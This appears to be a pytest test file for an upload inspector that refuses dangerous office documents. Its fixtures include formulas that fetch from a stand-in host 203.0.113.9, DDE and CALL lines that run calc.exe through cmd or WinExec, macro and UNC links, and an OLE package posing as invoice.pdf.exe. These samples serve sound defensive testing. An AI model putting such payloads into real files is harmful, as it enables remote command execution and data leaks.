"""The evidence intake's remaining holes (ADR 24): what one document may cost to parse (elements,
attributes, processing instructions and long tags, shared across its parts), spreadsheet
formulas that fetch from outside, ODF DDE and links that run commands, and OLE objects embedded
in a package. Each refusal has a harmless look-alike beside it that is taken."""

from __future__ import annotations

import codecs
import io
import random
import struct
import sys
import uuid
import zipfile
from pathlib import Path
from types import FrameType

import pytest

from tests import evidence_files as files
from tradehall.membership.evidence import inspection
from tradehall.membership.evidence.inspection import (
    MAX_XML_ELEMENTS,
    MAX_XML_RUN_BYTES,
    budget,
)

W = files.WORD
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODT = "application/vnd.oasis.opendocument.text"


_inspect, _refusal = files.inspected, files.refusal


def _noise(size: int) -> tuple[str, bytes]:
    """A picture's worth of random bytes: keeps a package of repetitive XML under the zip
    bomb ratio, so what is tested is the parsing cost, not the ratio."""
    return ("word/media/noise.bin", random.Random(size).randbytes(size))


def _header(n: int, body: str) -> tuple[str, bytes]:
    return (f"word/header{n}.xml", f"<w:hdr {W}>{body}</w:hdr>".encode())


# --- 1. What one document may cost to parse: elements, attributes, long tags ----------------------


def test_processing_instructions_past_the_element_cap_across_parts_are_refused(
    tmp_path: Path,
) -> None:
    """Each part holds just over half the cap (a processing instruction counts as an element,
    and costs a callback like one); neither alone passes it, together they do."""
    half = "<?a?>" * (MAX_XML_ELEMENTS // 2 + 1)
    data = files.docx(_header(1, half), _header(2, half), _noise(256 * 1024))
    assert "elements" in _refusal(tmp_path, data).reason


def test_elements_count_across_parts_and_a_document_within_the_cap_is_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(budget, "MAX_XML_ELEMENTS", 1_500)
    part = "<w:p/>" * 1_000
    assert _inspect(tmp_path, files.docx(_header(1, part))) == "docx"
    assert "elements" in _refusal(tmp_path, files.docx(_header(1, part), _header(2, part))).reason


def test_attributes_count_across_parts_and_a_document_within_the_cap_is_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(budget, "MAX_XML_ATTRIBUTES", 1_500)
    part = '<w:p w:a="1" w:b="2"/>' * 500
    assert _inspect(tmp_path, files.docx(_header(1, part))) == "docx"
    refused = _refusal(tmp_path, files.docx(_header(1, part), _header(2, part)))
    assert "attributes" in refused.reason


def _lines_run_in_inspection(path: Path) -> int:
    """How many lines of the inspection package's modules run to inspect `path` (a count of
    steps, the same on any machine, not a time)."""
    package = str(Path(inspection.__file__).parent)
    lines = 0

    def local(frame: FrameType, event: str, arg: object) -> object:
        nonlocal lines
        lines += event == "line"
        return local

    def calls(frame: FrameType, event: str, arg: object) -> object:
        return local if str(Path(frame.f_code.co_filename).parent) == package else None

    previous = sys.gettrace()  # a debugger's or coverage's, given back after
    sys.settrace(calls)
    try:
        inspection.inspect(path)
    finally:
        sys.settrace(previous)
    return lines


@pytest.mark.parametrize(
    "element",
    [
        "w:connection",  # a connection's name: its namespace is looked up
        "w:del",  # a tracked change's
        "x:f",  # a formula's (Office Math's <m:f> is no formula)
    ],
)
def test_the_work_to_check_a_part_grows_with_its_nesting_only_linearly(
    tmp_path: Path, element: str
) -> None:
    """An element whose namespace is looked up costs the same however deep it is: the lookup
    once walked every open element (80,000 nested connections in a 2 MiB part: 27 s of CPU; a
    million, an hour). As many elements again, twice as deep: about twice the work, not four
    times."""
    work = []
    for depth in (1_000, 2_000):
        body = "<x:g>" * depth + f"<{element}/>" * depth + "</x:g>" * depth
        path = tmp_path / f"deep{depth}.docx"
        path.write_bytes(files.docx(_header(1, f'<x:g xmlns:x="urn:example:x">{body}</x:g>')))
        assert inspection.inspect(path).extension == "docx"
        work.append(_lines_run_in_inspection(path))
    assert work[1] < 2.5 * work[0], work


def test_a_long_tag_of_many_attributes_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    """A start tag of millions of attributes costs expat seconds before any handler could
    count them: one over 1 MiB holding more than 10,000 is refused unparsed."""
    count = MAX_XML_RUN_BYTES // 10 + 1
    attributes = "".join(f' a{n:07x}=""' for n in range(count))
    data = files.docx(_header(1, f"<w:p{attributes}/>"), _noise(128 * 1024))
    assert "attributes" in _refusal(tmp_path, data).reason


@pytest.mark.parametrize(("count", "taken"), [(10_001, False), (9_990, True)])
def test_an_element_of_more_than_ten_thousand_attributes_is_refused(
    tmp_path: Path, count: int, taken: bool
) -> None:
    """Under 1 MiB, as the first such tag: not after 3 million attributes in tags like it."""
    attributes = "".join(f' a{n:x}=""' for n in range(count))
    data = files.docx(_header(1, f"<w:p{attributes}/>"))
    if taken:
        assert _inspect(tmp_path, data) == "docx"
    else:
        assert "an element of more than" in _refusal(tmp_path, data).reason


def test_a_long_attribute_value_or_text_is_taken(tmp_path: Path) -> None:
    """VML shapes carry their drawing as base64 in o:gfxdata, pictures included; a paragraph
    may be one long run of text. Both past 1 MiB without a `<`."""
    gfxdata = random.Random(7).randbytes(MAX_XML_RUN_BYTES).hex()
    shape = (
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        f'xmlns:o="urn:schemas-microsoft-com:office:office" o:gfxdata="{gfxdata}"/></w:pict></w:r>'
    )
    assert _inspect(tmp_path, files.word(shape)) == "docx"
    words = random.Random(8).randbytes(MAX_XML_RUN_BYTES // 2).hex(" ", 4)
    text = f"<w:r><w:t>Where x = y: {words}</w:t></w:r>"
    assert _inspect(tmp_path, files.word(text)) == "docx"


# --- 2. Formulas that fetch from outside ----------------------------------------------------------


def _workbook(sheet: str, workbook: str = "") -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return files.zip_of(
        [
            ("[Content_Types].xml", files.content_types(("/xl/workbook.xml", files.XLSX_MAIN))),
            ("_rels/.rels", files.RELS),
            ("xl/workbook.xml", f"<workbook {main}>{workbook}</workbook>".encode()),
            ("xl/worksheets/sheet1.xml", f"<worksheet {main}>{sheet}</worksheet>".encode()),
        ]
    )


def _cell(formula: str) -> bytes:
    return _workbook(f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>')


URL = "&quot;http://203.0.113.9/x&quot;"


@pytest.mark.parametrize(
    "data",
    [
        _cell('_xlfn.WEBSERVICE("http://203.0.113.9/x?q="&amp;A2)'),
        _cell('_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://203.0.113.9/feed"),"//item")'),
        _cell('webservice ("\\\\203.0.113.9\\share\\x")'),
        _cell('_xlfn.IMAGE("https://203.0.113.9/logo.png")'),
        _cell('RTD("attacker.progid","203.0.113.9","topic")'),
        _cell('CALL("kernel32","WinExec","JCJ","calc.exe",0)'),
        _cell('REGISTER.ID("kernel32","WinExec","JCJ")'),
        _cell('IMPORTXML("http://203.0.113.9/x","//a")'),
        _cell('IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1:B2")'),
        _cell('__xludf.DUMMYFUNCTION("IMPORTDATA(""http://203.0.113.9/x.csv"")")'),
        _workbook(
            "<sheetData/>",
            '<definedNames><definedName name="Go">_xlfn.WEBSERVICE("http://203.0.113.9/")'
            "</definedName></definedNames>",
        ),
        _workbook(
            '<sheetData/><dataValidations count="1"><dataValidation type="custom" sqref="A1">'
            '<formula1>ISNUMBER(_xlfn.WEBSERVICE("http://203.0.113.9/"))</formula1>'
            "</dataValidation></dataValidations>"
        ),
    ],
    ids=[
        "webservice",
        "filterxml-of-webservice",
        "webservice-unc-lower-case",
        "image",
        "rtd",
        "call",
        "register-id",
        "importxml",
        "importrange",
        "google-dummy-function",
        "defined-name",
        "data-validation",
    ],
)
def test_an_excel_formula_that_fetches_from_outside_is_refused(tmp_path: Path, data: bytes) -> None:
    assert "fetches from outside" in _refusal(tmp_path, data, "upload.xlsx").reason


@pytest.mark.parametrize(
    "data",
    [
        _cell('_xlfn.FILTERXML("&lt;a&gt;&lt;b&gt;1&lt;/b&gt;&lt;/a&gt;","//b")'),
        _cell('"Use WEBSERVICE(url) or IMAGE(url) at your own risk"'),
        _cell("'Image (2)'!A1+'Call log (2025)'!B2+SUM(Images)"),
        _cell("SUM(Table1[[#This Row],[Image (url)]])"),
        _cell('HYPERLINK("https://example.org/report","Our report")'),
        _cell("MYIMAGE(A1)+CALLS+IMAGE_COUNT"),
        _cell('__xludf.DUMMYFUNCTION("SPLIT(A1,"","")")'),
        _workbook(
            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>=WEBSERVICE("http://x")</t>'
            "</is></c></row></sheetData>"
        ),
    ],
    ids=[
        "filterxml-of-a-string",
        "names-in-a-string",
        "quoted-sheet-names",
        "table-column",
        "hyperlink",
        "longer-names",
        "google-other-function",
        "text-cell",
    ],
)
def test_an_excel_formula_that_only_looks_like_one_that_fetches_is_taken(
    tmp_path: Path, data: bytes
) -> None:
    assert _inspect(tmp_path, data, "upload.xlsx") == "xlsx"


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" '
    'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def _odf(mimetype: str, body: str, *extra: tuple[str, bytes]) -> bytes:
    content = (
        f"<office:document-content {ODF_NAMESPACES}><office:body>{body}</office:body>"
        "</office:document-content>"
    ).encode()
    return files.odf(mimetype, content, *extra)


def _ods(cells: str, before: str = "") -> bytes:
    return _odf(
        ODS,
        f'<office:spreadsheet>{before}<table:table table:name="Sheet1"><table:table-row>'
        f"{cells}</table:table-row></table:table></office:spreadsheet>",
    )


def _formula(formula: str) -> str:
    return f'<table:table-cell table:formula="{formula}" office:value-type="float"/>'


@pytest.mark.parametrize(
    "data",
    [
        _ods(_formula(f"of:=WEBSERVICE({URL})")),
        _ods(_formula(f"of:=COM.MICROSOFT.WEBSERVICE({URL})")),
        _ods(_formula(f"of:=FILTERXML(WEBSERVICE({URL});&quot;//a&quot;)")),
        _ods(_formula("of:=DDE(&quot;soffice&quot;;&quot;C:\\x.ods&quot;;&quot;A1&quot;)")),
        _ods(_formula("msoxl:=cmd|' /C calc'!A0")),
        _ods(
            '<table:table-cell table:content-validation-name="v1"/>',
            '<table:content-validations><table:content-validation table:name="v1" '
            f'table:condition="of:is-true-formula(WEBSERVICE({URL}))"/>'
            "</table:content-validations>",
        ),
        _ods(
            "<table:table-cell/>",
            '<table:named-expressions><table:named-expression table:name="Go" '
            f'table:expression="of:=WEBSERVICE({URL})"/></table:named-expressions>',
        ),
        _ods(
            "<table:table-cell/>",
            "<calcext:conditional-formats><calcext:conditional-format><calcext:condition "
            f'calcext:apply-style-name="Bad" calcext:value="formula-is(WEBSERVICE({URL}))"/>'
            "</calcext:conditional-format></calcext:conditional-formats>",
        ),
    ],
    ids=[
        "webservice",
        "microsoft-webservice",
        "filterxml-of-webservice",
        "dde-function",
        "excel-grammar-dde",
        "validation",
        "named-expression",
        "conditional-format",
    ],
)
def test_an_odf_formula_that_fetches_from_outside_or_runs_dde_is_refused(
    tmp_path: Path, data: bytes
) -> None:
    reason = _refusal(tmp_path, data, "upload.ods").reason
    assert "fetches from outside" in reason or "DDE" in reason


def test_ordinary_odf_formulas_and_conditions_are_taken(tmp_path: Path) -> None:
    data = _ods(
        _formula("of:=SUM([.A1:.A3])+[$'Image (2)'.A1]")
        + _formula("of:=HYPERLINK(&quot;https://example.org&quot;;&quot;site&quot;)")
        + '<table:table-cell office:value-type="string" office:string-value="WEBSERVICE(x)">'
        "<text:p>=WEBSERVICE(&quot;http://203.0.113.9/&quot;) | DDE</text:p></table:table-cell>",
        '<table:content-validations><table:content-validation table:name="v1" '
        'table:condition="of:cell-content-is-whole-number() and cell-content()&gt;0"/>'
        "</table:content-validations>",
    )
    assert _inspect(tmp_path, data, "upload.ods") == "ods"
    # A Writer condition: '|' is its "or", not a program (only Excel's grammar reads it so).
    writer = _odf(
        ODT,
        '<office:text><text:p><text:conditional-text text:condition="ooow:Page | 1" '
        'text:string-value-if-true="a" text:string-value-if-false="b"/></text:p></office:text>',
    )
    assert _inspect(tmp_path, writer, "upload.odt") == "odt"


# --- 3. ODF: DDE, and links that run commands ---------------------------------------------------

DDE_ATTRIBUTES = (
    'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x" '
    'office:automatic-update="true"'
)


@pytest.mark.parametrize(
    "data",
    [
        _odf(
            ODT,
            "<office:text><text:dde-connection-decls><text:dde-connection-decl "
            f'office:name="x" {DDE_ATTRIBUTES}/></text:dde-connection-decls>'
            '<text:p>Total: <text:dde-connection text:connection-name="x">1</text:dde-connection>'
            "</text:p></office:text>",
        ),
        _odf(
            ODT,
            '<office:text><text:section text:name="S1">'
            f"<office:dde-source {DDE_ATTRIBUTES}/></text:section></office:text>",
        ),
        _odf(
            ODS,
            "<office:spreadsheet><table:dde-links><table:dde-link>"
            f"<office:dde-source {DDE_ATTRIBUTES}/><table:table/></table:dde-link>"
            "</table:dde-links></office:spreadsheet>",
        ),
    ],
    ids=["text-connection", "section-source", "sheet-link"],
)
def test_odf_dde_is_refused(tmp_path: Path, data: bytes) -> None:
    assert "DDE" in _refusal(tmp_path, data, "upload.odt").reason


def _link(href: str) -> bytes:
    return _odf(
        ODT,
        f'<office:text><text:p><text:a xlink:type="simple" xlink:href="{href}">Open</text:a>'
        "</text:p></office:text>",
    )


@pytest.mark.parametrize(
    "data",
    [
        _link(".uno:OpenHyperlink?URL:string=file:///C:/Windows/System32/calc.exe"),
        _link("  .UNO:Quit"),
        _link("%2Euno:Quit"),
        _link("slot:5500"),
        _link("service:com.sun.star.frame.Desktop"),
        _link("macro:Standard.Module1.Main"),
        _odf(
            ODT,
            '<office:text><text:p><text:execute-macro text:name="Standard.Module1.Main">Run'
            "</text:execute-macro></text:p></office:text>",
        ),
        _odf(
            ODT,
            '<office:text><office:forms><form:form><form:button form:name="b" '
            'form:button-type="url" xlink:href=".uno:RunMacro"/></form:form></office:forms>'
            "</office:text>",
        ),
    ],
    ids=[
        "uno",
        "uno-upper-case",
        "uno-percent-encoded",
        "slot",
        "service",
        "macro",
        "execute-macro-field",
        "form-button",
    ],
)
def test_an_odf_link_that_runs_a_command_or_macro_is_refused(tmp_path: Path, data: bytes) -> None:
    assert "macros or scripts" in _refusal(tmp_path, data, "upload.odt").reason


def test_odf_links_within_or_to_the_web_and_text_about_dde_are_taken(tmp_path: Path) -> None:
    data = _odf(
        ODT,
        '<office:text><text:dde-connection-decls/><text:p text:style-name="DDE link">'
        "Updating office:dde-source links, or the .uno:Open command, is not done here. "
        '<text:a xlink:href="#Heading 2">See below</text:a>, '
        '<text:a xlink:href="https://example.org/help/.uno:Open">the manual</text:a>, '
        '<text:a xlink:href="Pictures/uno.png">the figure</text:a>.</text:p></office:text>',
    )
    assert _inspect(tmp_path, data, "upload.odt") == "odt"


# --- 4. OLE objects embedded in a package ---------------------------------------------------------

PACKAGE = "0003000C-0000-0000-C000-000000000046"
EQUATION_3 = "0002CE02-0000-0000-C000-000000000046"
EXCEL_SHEET_8 = "00020820-0000-0000-C000-000000000046"


def _with_class(data: bytes, storage: str, clsid: str) -> bytes:
    """The compound file with `storage` (its directory entry found by name) of class `clsid`:
    the builder writes no classes. An entry is 128 bytes from the directory's start (sector 1,
    after the header and the FAT sector); its CLSID is at 0x50 in it."""
    directory = 2 * 512
    at = data.index(storage.encode("utf-16-le") + b"\0\0", directory)
    assert (at - directory) % 128 == 0
    at += 0x50
    return data[:at] + uuid.UUID(clsid).bytes_le + data[at + 16 :]


def _object(tree: dict[str, object], clsid: str | None = None) -> bytes:
    """A compound file as Office embeds it, its root storage of class `clsid`."""
    data = files.ole(tree)
    return data if clsid is None else _with_class(data, "Root Entry", clsid)


def _comp_obj(user_type: str, prog_id: str) -> bytes:
    def string(text: str) -> bytes:
        encoded = text.encode("latin-1") + b"\0"
        return struct.pack("<I", len(encoded)) + encoded

    header = struct.pack("<HHII", 1, 0xFFFE, 0x0A03, 0xFFFFFFFF) + bytes(16)
    return header + string(user_type) + struct.pack("<I", 0) + string(prog_id)


def _ole_stream(*, linked: bool = False) -> bytes:
    return struct.pack("<IIIII", 0x02000001, 1 if linked else 0, 0, 0, 0)


NATIVE = b"\x40\0\0\0\x02\0invoice.pdf.exe\0C:\\tmp\\invoice.pdf.exe\0\0\0\0\0MZ\x90\0"


def _docx_embedding(data: bytes, name: str = "word/embeddings/oleObject1.bin") -> bytes:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId5" Target="embeddings/oleObject1.bin" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'
    )
    return files.docx((name, data), ("word/_rels/document.xml.rels", rels))


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (
            _docx_embedding(
                _object(
                    {
                        "\x01Ole10Native": NATIVE,
                        "\x01CompObj": _comp_obj("OLE Package", "Package"),
                        "\x01Ole": _ole_stream(),
                    },
                    PACKAGE,
                )
            ),
            "embedded file",
        ),
        (_docx_embedding(_object({"\x01Ole10Native": NATIVE})), "embedded file"),
        (_docx_embedding(_object({"Contents": b"x"}, PACKAGE)), "embedded file"),
        (
            _docx_embedding(_object({"\x01CompObj": _comp_obj("OLE Package", "Package")})),
            "embedded file",
        ),
        (
            _docx_embedding(_object({"Equation Native": b"\x1c\0"}, EQUATION_3)),
            "Equation Editor",
        ),
        (
            _docx_embedding(_object({"\x01Ole": _ole_stream(linked=True)}, EXCEL_SHEET_8)),
            "linked object",
        ),
        (
            _docx_embedding(
                _object({"Workbook": b"x", "_VBA_PROJECT_CUR": {"VBA": {"dir": b"x"}}})
            ),
            "macros",
        ),
        (
            _docx_embedding(_object({"\x01Ole10Native": NATIVE}), "word/media/image9.png"),
            "embedded file",
        ),
        (
            _odf(ODT, "<office:text/>", ("Object 1", _object({"\x01Ole10Native": NATIVE}))),
            "embedded file",
        ),
    ],
    ids=[
        "package",
        "native-stream-only",
        "package-class-only",
        "package-prog-id-only",
        "equation-editor-3",
        "linked-object",
        "workbook-with-macros",
        "package-named-as-a-picture",
        "odf-package",
    ],
)
def test_an_embedded_package_or_exploit_object_is_refused(
    tmp_path: Path, data: bytes, says: str
) -> None:
    name = "upload.odt" if data[30:38] == b"mimetype" else "upload.docx"
    assert says in _refusal(tmp_path, data, name).reason


def test_embedded_workbooks_and_charts_are_taken(tmp_path: Path) -> None:
    """An Excel 97 worksheet object (a table pasted into Word), a chart's workbook (an OOXML
    package), and the printer settings Excel keeps as .bin: what ordinary documents embed."""
    worksheet = _object(
        {
            "Workbook": b"\x09\x08",
            "\x01CompObj": _comp_obj("Microsoft Excel 97-2003 Worksheet", "Excel.Sheet.8"),
            "\x01Ole": _ole_stream(),
        },
        EXCEL_SHEET_8,
    )
    data = files.docx(
        ("word/embeddings/oleObject1.bin", worksheet),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", files.xlsx()),
        ("word/printerSettings/printerSettings1.bin", b"\0\x04HP LaserJet" + bytes(200)),
    )
    assert _inspect(tmp_path, data) == "docx"


def test_a_legacy_word_document_holding_an_equation_editor_3_object_is_refused(
    tmp_path: Path,
) -> None:
    tree: dict[str, object] = {
        "WordDocument": files.word_fib(),
        "1Table": b"t",
        "ObjectPool": {"_1234567890": {"Equation Native": b"\x1c\0"}},
    }
    refused = _refusal(tmp_path, _with_class(files.ole(tree), "_1234567890", EQUATION_3), "x.doc")
    assert "Equation Editor" in refused.reason
    # The same document with an Excel worksheet object is taken.
    worksheet = _with_class(files.ole(tree), "_1234567890", EXCEL_SHEET_8)
    assert _inspect(tmp_path, worksheet, "x.doc") == "doc"


def test_a_formula_longer_than_any_spreadsheet_writes_is_refused_and_a_long_one_taken(
    tmp_path: Path,
) -> None:
    """Excel writes at most 8,192 characters; a longer one would only make the check costly
    (brackets nested a million deep)."""
    nested = "[" * 40_000 + "]" * 40_000
    assert "formula of more than" in _refusal(tmp_path, _cell(nested), "upload.xlsx").reason
    long = "+".join(f"'Sheet {n % 9}'!A{n}" for n in range(600))
    assert len(long) > 8_000
    assert _inspect(tmp_path, _cell(long), "upload.xlsx") == "xlsx"


PRESENTATION_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


@pytest.mark.parametrize(
    ("href", "taken"), [(".uno:Open", False), ("slot:5500", False), ("#Slide 2", True)]
)
def test_a_presentation_click_to_a_command_is_refused_and_one_to_a_slide_taken(
    tmp_path: Path, href: str, taken: bool
) -> None:
    content = (
        f"<office:document-content {PRESENTATION_NAMESPACES}><office:body><office:presentation>"
        '<draw:page draw:name="Slide 1"><draw:custom-shape><office:event-listeners>'
        '<presentation:event-listener script:event-name="dom:click" presentation:action="show" '
        f'xlink:href="{href}"/></office:event-listeners></draw:custom-shape></draw:page>'
        "</office:presentation></office:body></office:document-content>"
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr(
            "mimetype", "application/vnd.oasis.opendocument.presentation", zipfile.ZIP_STORED
        )
        package.writestr("content.xml", content)
        package.writestr("META-INF/manifest.xml", b"<manifest:manifest/>")
    if taken:
        assert _inspect(tmp_path, out.getvalue(), "upload.odp") == "odp"
    else:
        assert "macros or scripts" in _refusal(tmp_path, out.getvalue(), "upload.odp").reason


# --- 5. A part's encoding decided as expat decides it, before the long-run check ------------------


def _long_tag_header(encode: str, before: str = " ") -> bytes:
    """A header of one tag of more than 10,000 attributes past 1 MiB, whose attribute names
    (U+4E3C: bytes 3C 4E or 4E 3C) put a '<' byte every few bytes of the raw UTF-16."""
    count = MAX_XML_RUN_BYTES // 10 + 1
    attributes = "".join(f' \u4e3c{n:07x}=""' for n in range(count))
    return f"{before}<w:hdr {W}><w:p{attributes}/></w:hdr>".encode(encode)


@pytest.mark.parametrize(
    "header",
    [
        _long_tag_header("utf-16-le"),  # 20 00 3C 00: expat reads UTF-16LE (second byte NUL)
        _long_tag_header("utf-16-be"),  # 00 20 00 3C: UTF-16BE (first byte NUL)
        _long_tag_header("utf-16-le", "\n"),
        _long_tag_header("utf-16", ""),  # with a byte order mark, as before
    ],
    ids=["utf-16-le-after-a-space", "utf-16-be-after-a-space", "utf-16-le-after-a-line", "bom"],
)
def test_a_long_tag_in_utf16_without_a_byte_order_mark_is_refused_before_it_is_parsed(
    tmp_path: Path, header: bytes
) -> None:
    """Not after expat has parsed it (3.4 s for a 3.8 MiB upload): the check reads the part
    re-encoded, as expat reads it."""
    data = files.docx(("word/header1.xml", header), _noise(256 * 1024))
    assert "a tag of more than" in _refusal(tmp_path, data).reason


def test_utf16_that_would_be_read_as_utf16_again_after_a_utf8_byte_order_mark_is_refused(
    tmp_path: Path,
) -> None:
    """A UTF-8 byte order mark before UTF-16BE: re-encoded, the part starts with a NUL, which
    expat (even told UTF-8) would read as UTF-16 again, not as the bytes checked."""
    header = codecs.BOM_UTF8 + _long_tag_header("utf-16-be")
    data = files.docx(("word/header1.xml", header), _noise(256 * 1024))
    assert "not well-formed" in _refusal(tmp_path, data).reason


def test_utf16_parts_without_a_byte_order_mark_and_8_bit_parts_are_taken_and_checked(
    tmp_path: Path,
) -> None:
    ordinary = (
        f' <w:hdr {W}><w:p w:rsidR="00A1"><w:r><w:t>Bilan \u00e9t\u00e9</w:t></w:r></w:p></w:hdr>'
    )
    for encode in ("utf-16-le", "utf-16-be"):
        taken = files.docx(("word/header1.xml", ordinary.encode(encode)))
        assert _inspect(tmp_path, taken) == "docx"
    latin = (
        f'<?xml version="1.0" encoding="ISO-8859-1"?><w:hdr {W}><w:p><w:r><w:t>Bilan '
        "\u00e9t\u00e9</w:t></w:r></w:p></w:hdr>"
    ).encode("latin-1")
    assert _inspect(tmp_path, files.docx(("word/header1.xml", latin))) == "docx"
    # Still read, not skipped: a DDE field in such a part is found.
    dde = f' <w:hdr {W}><w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p></w:hdr>'
    refused = _refusal(tmp_path, files.docx(("word/header1.xml", dde.encode("utf-16-le"))))
    assert "DDE" in refused.reason


# --- 6. ODF links and references loaded from outside as the document opens -----------------------

DRAW = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
STYLE = 'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'


def _frame(inner: str) -> bytes:
    return _odf(
        ODT,
        f'<office:text><text:p><draw:frame {DRAW} draw:name="f1">{inner}</draw:frame></text:p>'
        "</office:text>",
    )


def _linked_sheet(href: str) -> bytes:
    return _odf(
        ODS,
        '<office:spreadsheet><table:table table:name="S"><table:table-source '
        f'xlink:type="simple" xlink:href="{href}" table:mode="copy-all"/>'
        "<table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet>",
    )


@pytest.mark.parametrize(
    "data",
    [
        _odf(
            ODT,
            '<office:text><office:forms><form:form><form:button form:name="b" '
            'form:image-data="http://203.0.113.9/b.png"/></form:form></office:forms>'
            "</office:text>",
        ),
        _frame('<draw:image xlink:type="simple" xlink:href="http://203.0.113.9/x.png"/>'),
        _frame('<draw:image xlink:href="file://///203.0.113.9/share/x.png"/>'),
        _frame('<draw:image xlink:href="\\\\203.0.113.9\\share\\x.png"/>'),
        _frame('<draw:image xlink:href="%2E%2E/x.png"/>'),
        _frame('<draw:object xlink:href="http://203.0.113.9/x.ods"/>'),
        _frame('<draw:object-ole xlink:href="file:///C:/Users/a/x.xls"/>'),
        _frame('<draw:floating-frame xlink:href="http://203.0.113.9/"/>'),
        _linked_sheet("http://203.0.113.9/x.ods"),
        _linked_sheet("../x.ods"),
        _odf(
            ODT,
            '<office:text><text:section text:name="S1"><text:section-source xlink:type="simple" '
            'xlink:href="http://203.0.113.9/x.odt"/></text:section></office:text>',
        ),
        _odf(
            ODT,
            '<office:text><text:p><d:frame xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:'
            '1.0"><d:image xlink:href="https://203.0.113.9/x.png"/></d:frame></text:p>'
            "</office:text>",
        ),
        _odf(
            ODT,
            f"<office:automatic-styles {STYLE}><style:style style:name='P1'>"
            "<style:paragraph-properties><style:background-image "
            'xlink:href="http://203.0.113.9/bg.png"/></style:paragraph-properties></style:style>'
            "</office:automatic-styles><office:text/>",
        ),
    ],
    ids=[
        "form-button-picture",
        "image-web",
        "image-unc-file-url",
        "image-unc",
        "image-beside-the-document",
        "object",
        "object-ole-local",
        "floating-frame",
        "linked-sheet",
        "linked-sheet-beside",
        "linked-section",
        "image-under-another-prefix",
        "background-image",
    ],
)
def test_an_odf_link_loaded_from_outside_as_the_document_opens_is_refused(
    tmp_path: Path, data: bytes
) -> None:
    assert "fetches from outside as it opens" in _refusal(tmp_path, data, "upload.odt").reason


@pytest.mark.parametrize(
    "formula",
    [
        "of:=['file://///203.0.113.9/share/x.ods'#$Sheet1.A1]",
        "of:=SUM(['http://203.0.113.9/x.ods'#$Sheet1.A1:.B9])",
        "of:=['file:///C:/it''s/x.ods' #$'Sheet 1'.A1]",
    ],
    ids=["unc", "web", "quote-in-path"],
)
def test_an_odf_formula_referring_to_another_file_is_refused(tmp_path: Path, formula: str) -> None:
    refused = _refusal(tmp_path, _ods(_formula(formula)), "upload.ods")
    assert "refers to another file" in refused.reason


def test_odf_pictures_in_the_package_references_within_and_links_to_the_web_are_taken(
    tmp_path: Path,
) -> None:
    picture = ("Pictures/x.png", b"\x89PNG\r\n\x1a\n")
    data = _odf(
        ODT,
        f'<office:text><text:p><draw:frame {DRAW} draw:name="f1"><draw:image '
        'xlink:type="simple" xlink:href="Pictures/x.png"/><draw:image '
        'xlink:href="./ObjectReplacements/Object 1"/></draw:frame><draw:frame '
        f'{DRAW}><draw:object xlink:href="./Object 1"/></draw:frame>'
        '<text:a xlink:href="https://example.org/x.png">the picture on the web</text:a>'
        f'</text:p><office:forms><form:form><form:image {DRAW} form:name="b" '
        'form:image-data="Pictures/x.png" xlink:href="https://example.org/"/></form:form>'
        "</office:forms></office:text>",
        picture,
    )
    assert _inspect(tmp_path, data, "upload.odt") == "odt"
    sheet = _ods(
        _formula("of:=[$Sheet2.A1]+[$'Sheet 2'.A1]+SUM([.A1:.A3])")
        + _formula("of:=&quot;'not a file'#&quot;&amp;[$'It''s'.B1]")
    )
    assert _inspect(tmp_path, sheet, "upload.ods") == "ods"


def test_a_percent_encoded_script_address_is_refused(tmp_path: Path) -> None:
    href = "vnd%2Esun%2Estar%2Escript:Standard.Module1.Main?language=Basic&amp;location=application"
    assert "macros or scripts" in _refusal(tmp_path, _link(href), "upload.odt").reason


def _meta(inner: str) -> tuple[str, bytes]:
    return (
        "meta.xml",
        (
            '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
            ' xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta>{inner}</office:meta>'
            "</office:document-meta>"
        ).encode(),
    )


def test_a_document_reloading_itself_from_elsewhere_is_refused_and_its_template_taken(
    tmp_path: Path,
) -> None:
    redirect = _meta(
        '<meta:auto-reload xlink:href="file://///203.0.113.9/x.odt" meta:delay="PT0S"/>'
    )
